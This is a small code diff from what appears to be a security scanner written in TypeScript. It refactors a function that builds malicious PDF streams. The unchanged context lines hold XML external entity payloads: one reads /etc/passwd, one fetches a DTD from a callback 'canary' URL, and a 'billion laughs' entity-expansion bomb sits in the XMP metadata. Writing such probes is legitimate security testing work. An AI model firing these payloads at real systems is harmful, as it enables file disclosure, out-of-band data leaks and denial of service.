@@ -100,7 +100,8 @@ const LAUGHS = `<!DOCTYPE l [<!ENTITY a "lol">${Array.from(
 ).join('')}]>`;
 
 async function entities(targets: Targets): Promise<string> {
-  const [visitor, canary] = [await newVisitor(await targets.any()), await startCanary()];
+  const visitor = await newVisitor(await targets.any());
+  const canary = await startCanary();
   const doctype = `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "${canary.url}/dtd">]>`;
   const xfa = streamOf(`<?xml version="1.0"?>${doctype}<xdp><a>&f;&h;</a></xdp>`);
   const xmp = streamOf(`<?xpacket begin=""?>${LAUGHS}<x>&j;</x>`, '/Type/Metadata/Subtype/XML');
